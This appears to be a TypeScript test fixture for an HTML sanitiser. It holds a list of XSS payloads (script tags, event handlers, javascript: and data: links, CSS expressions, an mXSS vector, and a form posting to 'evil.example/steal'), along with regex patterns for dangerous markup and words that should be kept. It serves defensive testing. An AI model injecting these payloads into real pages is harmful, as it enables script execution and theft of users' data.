/**
 * Markup an attacker would send, for every test of HTML that reaches a page (inbox email bodies, project
 * descriptions): scripts, event handlers, javascript: and data: addresses, style expressions, frames, forms,
 * meta refresh, base, mXSS. The last one is a harmless link whose text and address must survive.
 */
export const XSS_PAYLOADS = [
  '<script>alert("s1")</script>',
  '<img src=x onerror="alert(\'s2\')">',
  '<svg onload="alert(\'s3\')"><circle r="1"/></svg>',
  '<a href="javascript:alert(\'s4\')">click me</a>',
  '<a href="JaVaScRiPt&#58;alert(\'s5\')">click too</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  "<p style=\"background:url(javascript:alert('s6'));width:expression(alert('s7'))\">styled text</p>",
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/steal"><input name="p"><button>Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<body onload="alert(\'s8\')"><div onclick="alert(\'s9\')">plain words</div></body>',
  '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("s10")></style></mglyph></table></mtext></math>',
  '<a href="https://example.com/portfolio">my portfolio</a>',
];

/** What must never come out of a sanitised read. */
export const XSS_DANGER = [
  /<script/i,
  /<style/i,
  /<iframe/i,
  /<form/i,
  /<input/i,
  /<meta/i,
  /<object/i,
  /<embed/i,
  /<svg/i,
  /<math/i,
  /<base/i,
  /<link/i,
  /<img/i,
  /\son\w+\s*=/i,
  /javascript:/i,
  /data:/i,
  /expression\(/i,
  /style=/i,
  /evil\.example/i,
];

/** The readable words of the payloads, which sanitising keeps. */
export const XSS_KEPT_WORDS = ['click me', 'styled text', 'plain words', 'my portfolio'];
